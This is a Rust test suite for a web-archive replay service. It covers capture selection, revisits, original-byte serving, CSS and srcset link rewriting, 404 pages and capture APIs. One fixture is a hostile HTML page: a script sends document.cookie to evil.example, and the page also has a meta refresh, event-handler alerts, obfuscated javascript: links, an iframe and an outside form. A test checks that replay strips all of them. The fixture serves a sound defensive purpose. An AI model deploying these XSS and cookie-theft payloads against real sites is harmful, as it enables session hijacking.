//! Replay by URL and time over a real WARC archive written with the crawler's writer (a crawl
//! of a mirror at `http://127.0.0.1:9/` of the public portal): closest capture, redirects to
//! exact timestamps, revisits, `id_` bytes, CSS and `srcset` rewriting, a hostile page, the
//! archive's 404 page and the capture APIs.

use axum::http::StatusCode;
use chrono::{DateTime, TimeZone, Utc};
use crawler::warc::{Exchange, PROFILE_IDENTICAL, RefersTo, WarcWriter, Written};
use data_encoding::BASE32;
use query::AppState;
use sha1::{Digest, Sha1};

use crate::support::{config, get, get_json};

const MIRROR: &str = "http://127.0.0.1:9";
const PUBLIC: &str = "https://thanuyen.laichau.gov.vn";
const PDF: &[u8] = b"%PDF-1.4\n% Nghi quyet 140/NQ-HDND\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

const HOSTILE: &str = r#"<!doctype html><html><head><title>Trang độc hại</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>fetch("https://evil.example/?c="+document.cookie)</script></head>
<body onload="alert(1)"><h1>Thông báo</h1>
<img src="https://evil.example/pixel.gif" onerror="alert(2)">
<a href="javascript:alert(3)">Xem</a> <a href="JaVaScRiPt&colon;alert(4)">Tải</a>
<iframe src="https://evil.example/"></iframe>
<div style="background:url(https://evil.example/bg.png)">nền</div>
<form action="https://evil.example/post"><input name="q"></form></body></html>"#;

fn at(y: i32, m: u32, d: u32, h: u32, min: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, m, d, h, min, 0).unwrap()
}

fn html() -> Vec<(String, String)> {
    vec![(
        "Content-Type".to_owned(),
        "text/html; charset=utf-8".to_owned(),
    )]
}

struct Archive {
    writer: WarcWriter,
}

impl Archive {
    fn response(
        &mut self,
        path: &str,
        date: DateTime<Utc>,
        status: u16,
        headers: &[(String, String)],
        body: &[u8],
    ) -> Written {
        let uri = format!("{MIRROR}{path}");
        self.writer
            .write_response(&Exchange {
                target_uri: &uri,
                date,
                ip: Some("127.0.0.1".parse().unwrap()),
                request: format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1:9\r\n\r\n").into_bytes(),
                status,
                reason: if status == 200 { "OK" } else { "Other" },
                headers,
                body,
                truncated: false,
            })
            .unwrap()
    }
}

fn page(title: &str, extra: &str) -> String {
    format!(
        r#"<!doctype html><html lang="vi"><head><title>{title}</title><link rel="canonical" href="{PUBLIC}/"><link rel="StyleSheet" href="/themes/default/css/style.css?t=1"></head><body><h1>{title}</h1>{extra}</body></html>"#
    )
}

/// Writes the test archive into `dir` and returns the digest of the PDF.
fn write_archive(dir: &std::path::Path) -> String {
    let info = vec![(
        "description".to_owned(),
        format!("tracuu crawl of {MIRROR}/"),
    )];
    let mut a = Archive {
        writer: WarcWriter::new(dir, "tracuu", "127.0.0.1", 1 << 30, info).unwrap(),
    };
    let t1 = at(2024, 6, 15, 8, 30);
    let home = page("Trang chủ", r#"<a href="/tin-tuc/a-1.html">Tin</a>"#);
    a.response("/", t1, 200, &html(), home.as_bytes());
    let v1 = page(
        "Phiên bản 2024",
        r#"<img src="/uploads/anh.png" srcset="/uploads/anh.png 1x, /uploads/anh@2x.png 2x"><a href="/tin-tuc/b-2.html">Bài khác</a><a href="/uploads/van-ban.pdf">Tải về</a>"#,
    );
    a.response("/tin-tuc/a-1.html", t1, 200, &html(), v1.as_bytes());
    let css = [("Content-Type".to_owned(), "text/css".to_owned())];
    a.response(
        "/themes/default/css/style.css?t=1",
        t1,
        200,
        &css,
        b"@import \"typo.css\";\nbody{background:url(../images/nen.png)}\n",
    );
    let pdf = [("Content-Type".to_owned(), "application/pdf".to_owned())];
    let pdf_capture = a.response("/uploads/van-ban.pdf", t1, 200, &pdf, PDF);
    a.response("/hostile.html", t1, 200, &html(), HOSTILE.as_bytes());
    let moved = [("Location".to_owned(), "/tin-tuc/a-1.html".to_owned())];
    a.response("/moved", t1, 301, &moved, b"");
    let v2 = page("Phiên bản 2025", "<p>Nội dung mới</p>");
    let original = a.response(
        "/tin-tuc/a-1.html",
        at(2025, 1, 10, 0, 0),
        200,
        &html(),
        v2.as_bytes(),
    );
    let uri = format!("{MIRROR}/tin-tuc/a-1.html");
    a.writer
        .write_revisit(
            &Exchange {
                target_uri: &uri,
                date: at(2025, 6, 1, 0, 0),
                ip: None,
                request: b"GET /tin-tuc/a-1.html HTTP/1.1\r\n\r\n".to_vec(),
                status: 200,
                reason: "OK",
                headers: &html(),
                body: v2.as_bytes(),
                truncated: false,
            },
            &RefersTo {
                record_id: &original.record_id,
                target_uri: &uri,
                date: &original.date,
                payload_digest: &original.payload_digest,
                profile: PROFILE_IDENTICAL,
            },
        )
        .unwrap();
    a.response(
        "/tin-tuc/a-1.html",
        at(2025, 7, 1, 0, 0),
        503,
        &html(),
        b"Service Unavailable",
    );
    a.writer.close().unwrap();
    pdf_capture.payload_digest
}

struct Replay {
    router: axum::Router,
    digest: String,
    _dir: tempfile::TempDir,
}

fn replay_app() -> Replay {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("archive");
    let digest = write_archive(&archive);
    let store = indexer::IndexStore::open(dir.path().join("index")).unwrap();
    store.build_generation(crate::support::records()).unwrap();
    let state = AppState::builder(config(None), store)
        .archive_dirs(vec![archive])
        .build();
    Replay {
        router: query::router(state),
        digest,
        _dir: dir,
    }
}

fn location(answer: &crate::support::Answer) -> String {
    answer.headers["location"].to_str().unwrap().to_owned()
}

const A1: &str = "https://thanuyen.laichau.gov.vn/tin-tuc/a-1.html";

#[tokio::test]
async fn the_closest_capture_is_chosen_and_redirected_to_its_exact_time() {
    let app = replay_app();
    for (asked, found) in [
        ("202406", "20240615083000"),
        ("2024061", "20240615083000"),
        ("20250105", "20250110000000"),
        // A 503 was captured on 1 July 2025: the nearest successful capture wins.
        ("20250701000000", "20250601000000"),
        ("", "20250601000000"),
    ] {
        let path = if asked.is_empty() {
            format!("/luu-tru/{A1}")
        } else {
            format!("/luu-tru/{asked}/{A1}")
        };
        let answer = get(&app.router, &path).await;
        assert_eq!(answer.status, StatusCode::FOUND, "{path}: {}", answer.body);
        assert_eq!(
            location(&answer),
            format!("/luu-tru/{found}/{A1}"),
            "{path}"
        );
    }
    // The mirror's address finds the same captures, under the public URL.
    let answer = get(
        &app.router,
        "/luu-tru/2024/http://127.0.0.1:9/tin-tuc/a-1.html",
    )
    .await;
    assert_eq!(location(&answer), format!("/luu-tru/20250110000000/{A1}"));
}

#[tokio::test]
async fn a_page_is_replayed_inside_the_archive_with_a_banner_and_a_strict_policy() {
    let app = replay_app();
    let answer = get(&app.router, &format!("/luu-tru/20240615083000/{A1}")).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert!(answer.body.contains("<h1>Phiên bản 2024</h1>"));
    let banner_start = answer.body.find("tracuu-banner").unwrap();
    let banner_end = banner_start + answer.body[banner_start..].find("</div>").unwrap();
    let banner = &answer.body[banner_start..banner_end];
    assert!(banner.contains(A1), "public URL in the banner: {banner}");
    assert!(
        banner.contains("15:30:00 ngày 15/06/2024 (giờ Việt Nam)"),
        "{banner}"
    );
    assert!(banner.contains("Các lần lưu trữ khác (4)"), "{banner}");
    assert!(
        banner.contains(&format!("href=\"/luu-tru/20250110000000/{A1}\"")),
        "next capture: {banner}"
    );
    assert!(banner.contains("href=\"/\""), "search page link");
    assert!(
        !answer.body.contains("127.0.0.1"),
        "no mirror address: {}",
        answer.body
    );
    for link in [
        format!("href=\"/luu-tru/20240615083000/{PUBLIC}/tin-tuc/b-2.html\""),
        format!("href=\"/luu-tru/20240615083000cs_/{PUBLIC}/themes/default/css/style.css?t=1\""),
        format!("src=\"/luu-tru/20240615083000im_/{PUBLIC}/uploads/anh.png\""),
        format!(
            "srcset=\"/luu-tru/20240615083000im_/{PUBLIC}/uploads/anh.png 1x, /luu-tru/20240615083000im_/{PUBLIC}/uploads/anh@2x.png 2x\""
        ),
    ] {
        assert!(
            answer.body.contains(&link),
            "{link} missing in {}",
            answer.body
        );
    }
    let policy = answer.headers["content-security-policy"].to_str().unwrap();
    assert!(policy.contains("default-src 'self' data:"), "{policy}");
    assert!(policy.contains("script-src 'none'"), "{policy}");
    assert!(policy.contains("sandbox"), "{policy}");
    assert_eq!(
        answer.headers["memento-datetime"],
        "Sat, 15 Jun 2024 08:30:00 GMT"
    );
}

#[tokio::test]
async fn a_revisit_replays_the_response_it_refers_to() {
    let app = replay_app();
    let answer = get(&app.router, &format!("/luu-tru/20250601000000/{A1}")).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert!(answer.body.contains("Phiên bản 2025"), "{}", answer.body);
    assert!(
        answer.body.contains("07:00:00 ngày 01/06/2025"),
        "revisit time"
    );
}

#[tokio::test]
async fn id_serves_the_original_bytes_with_the_original_content_type() {
    let app = replay_app();
    let path = format!("/luu-tru/20240615083000id_/{PUBLIC}/uploads/van-ban.pdf");
    let response = tower::ServiceExt::oneshot(
        app.router.clone(),
        axum::http::Request::get(&path)
            .body(axum::body::Body::empty())
            .unwrap(),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "application/pdf");
    let bytes = http_body_util::BodyExt::collect(response.into_body())
        .await
        .unwrap()
        .to_bytes();
    assert_eq!(&bytes[..], PDF);
    let sha1 = format!("sha1:{}", BASE32.encode(&Sha1::digest(&bytes)));
    assert_eq!(sha1, app.digest, "same digest as WARC-Payload-Digest");
    // The same file through the attachment lookup of the capture API.
    let captures = get_json(
        &app.router,
        &format!("/api/captures?url={PUBLIC}/uploads/van-ban.pdf"),
    )
    .await;
    assert_eq!(captures["captures"][0]["digest"], app.digest.as_str());
    assert_eq!(captures["captures"][0]["original_bytes_url"], path.as_str());
}

#[tokio::test]
async fn stylesheets_are_rewritten_against_their_own_url() {
    let app = replay_app();
    let answer = get(
        &app.router,
        &format!("/luu-tru/20240615083000cs_/{PUBLIC}/themes/default/css/style.css?t=1"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.content_type(), "text/css; charset=utf-8");
    assert!(
        answer.body.contains(&format!(
            "@import \"/luu-tru/20240615083000cs_/{PUBLIC}/themes/default/css/typo.css\";"
        )),
        "{}",
        answer.body
    );
    assert!(
        answer.body.contains(&format!(
            "url(\"/luu-tru/20240615083000/{PUBLIC}/themes/default/images/nen.png\")"
        )),
        "{}",
        answer.body
    );
}

#[tokio::test]
async fn a_hostile_page_keeps_nothing_that_runs_or_reaches_another_site() {
    let app = replay_app();
    let answer = get(
        &app.router,
        &format!("/luu-tru/20240615083000/{PUBLIC}/hostile.html"),
    )
    .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let lower = answer.body.to_lowercase();
    for banned in [
        "<script",
        "onload",
        "onerror",
        "javascript",
        "refresh",
        "<iframe",
        "alert(",
    ] {
        assert!(!lower.contains(banned), "{banned} in {}", answer.body);
    }
    for attr in ["href=\"", "src=\"", "action=\"", "url(\""] {
        for rest in answer.body.split(attr).skip(1) {
            assert!(
                rest.starts_with('/') && !rest.starts_with("//"),
                "{attr}{} leaves the archive",
                &rest[..rest.len().min(60)]
            );
        }
    }
    assert!(answer.body.contains("<h1>Thông báo</h1>"));
}

#[tokio::test]
async fn an_archived_redirect_points_back_into_the_archive() {
    let app = replay_app();
    let answer = get(
        &app.router,
        &format!("/luu-tru/20240615083000/{PUBLIC}/moved"),
    )
    .await;
    assert_eq!(
        answer.status,
        StatusCode::MOVED_PERMANENTLY,
        "{}",
        answer.body
    );
    assert_eq!(location(&answer), format!("/luu-tru/20240615083000/{A1}"));
}

#[tokio::test]
async fn a_url_never_archived_gets_the_archive_404_page() {
    let app = replay_app();
    let missing = format!("{PUBLIC}/tin-tuc/khong-co.html");
    let answer = get(&app.router, &format!("/luu-tru/2024/{missing}")).await;
    assert_eq!(answer.status, StatusCode::NOT_FOUND);
    assert!(
        answer.body.contains("Không có bản lưu trữ"),
        "{}",
        answer.body
    );
    assert!(
        answer.body.contains(&format!("<code>{missing}</code>")),
        "URL as plain text"
    );
    assert!(
        !answer.body.contains(&format!("href=\"{PUBLIC}")),
        "no link to the live site"
    );
    assert!(
        answer
            .body
            .contains(&format!("href=\"/luu-tru/20250601000000/{A1}\"")),
        "nearest capture offered: {}",
        answer.body
    );
    assert!(
        answer.headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("script-src 'none'")
    );
    let bad = get(&app.router, "/luu-tru/2024/").await;
    assert_eq!(bad.status, StatusCode::NOT_FOUND);
    let unknown_record = get(&app.router, "/luu-tru/laws-999999").await;
    assert_eq!(unknown_record.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn captures_are_listed_for_tools_and_readers() {
    let app = replay_app();
    let answer = get_json(&app.router, &format!("/api/captures?url={A1}")).await;
    let list = answer["captures"].as_array().unwrap();
    let stamps: Vec<&str> = list
        .iter()
        .map(|c| c["timestamp"].as_str().unwrap())
        .collect();
    assert_eq!(
        stamps,
        [
            "20240615083000",
            "20250110000000",
            "20250601000000",
            "20250701000000"
        ]
    );
    assert_eq!(list[2]["mime"], "warc/revisit");
    assert_eq!(list[3]["status"], 503);
    assert_eq!(list[0]["url"], A1);
    assert_eq!(
        list[0]["replay_url"],
        format!("/luu-tru/20240615083000/{A1}")
    );

    let cdx = get(&app.router, &format!("/cdx?url={A1}&output=json")).await;
    assert_eq!(cdx.status, StatusCode::OK);
    let lines: Vec<serde_json::Value> = cdx
        .body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(lines[0]["urlkey"], "1,0,0,127:9)/tin-tuc/a-1.html");
    assert_eq!(lines[0]["url"], format!("{MIRROR}/tin-tuc/a-1.html"));
    for field in [
        "timestamp",
        "mime",
        "status",
        "digest",
        "length",
        "offset",
        "filename",
    ] {
        assert!(lines[0].get(field).is_some(), "{field}");
    }
    let plain = get(&app.router, &format!("/cdx?url={A1}&limit=1&sort=reverse")).await;
    assert!(
        plain
            .body
            .starts_with("1,0,0,127:9)/tin-tuc/a-1.html 20250701000000 {"),
        "{}",
        plain.body
    );

    let missing = get(&app.router, "/api/captures").await;
    assert_eq!(missing.status, StatusCode::BAD_REQUEST);
    let bad = get(&app.router, "/api/captures?url=ftp://x").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);

    let page = get(&app.router, &format!("/luu-tru/*/{A1}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.body.matches("<tr><td>").count(), 4, "{}", page.body);
}
